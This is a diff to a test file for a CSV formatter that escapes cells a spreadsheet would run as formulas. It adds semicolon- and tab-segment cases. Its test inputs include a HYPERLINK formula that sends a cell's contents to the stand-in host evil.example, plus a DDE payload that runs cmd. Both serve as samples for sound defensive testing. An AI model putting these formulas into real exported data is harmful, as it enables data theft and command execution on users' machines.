@@ -45,7 +45,7 @@ describe("formatCsv: cells a spreadsheet would run as formulas", () => {
   it.each([
     ["=", '=HYPERLINK("https://evil.example/?x="&A1,"Front desk")', `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Front desk"")"`],
     ["@", "@SUM(A1:A9)", "'@SUM(A1:A9)"],
-    ["a tab", "\t=1+1", "'\t=1+1"],
+    ["a tab (and the segment after it)", "\t=1+1", `"'\t'=1+1"`],
     ["a carriage return", "\r=1+1", `"'\r=1+1"`],
     ["NUL", "\u0000=1+1", "'\u0000=1+1"],
     ["+ and not a number", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
@@ -53,6 +53,18 @@ describe("formatCsv: cells a spreadsheet would run as formulas", () => {
     ["a ' before =", "'=1+1", "''=1+1"],
   ])("writes a cell starting with %s behind one '", (_, value, cell) => {
     expect(formatCsv([[value, "x"]])).toBe(`${cell},x\n`);
+  });
+
+  it.each([
+    ["after a ; (spreadsheets in semicolon locales split there)", "North;@SUM(1+1)", `"North;'@SUM(1+1)"`],
+    ["after each ;", "a;=1;b;+x", `"a;'=1;b;'+x"`],
+    ["after a tab", "North\t=1+1", `"North\t'=1+1"`],
+  ])("quotes a cell with a segment that starts a formula %s, and guards that segment", (_, value, cell) => {
+    expect(formatCsv([[value, "x"]])).toBe(`${cell},x\n`);
+  });
+
+  it("quotes every cell holding a ; or a tab", () => {
+    expect(formatCsv([["North;South", "a\tb"]])).toBe(`"North;South","a\tb"\n`);
   });
 
   it.each([
@@ -67,7 +79,7 @@ describe("formatCsv: cells a spreadsheet would run as formulas", () => {
 
   it("reads back every value it wrote, with exactly the ' it added removed", () => {
     fc.assert(
-      fc.property(fc.array(fc.array(fc.string({ unit: fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " ", '"', ",") }), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
+      fc.property(fc.array(fc.array(fc.string({ unit: fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " ", '"', ",", ";") }), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
         expect(parseCsv(formatCsv(rows)).map((r) => r.fields)).toEqual(rows);
       }),
     );
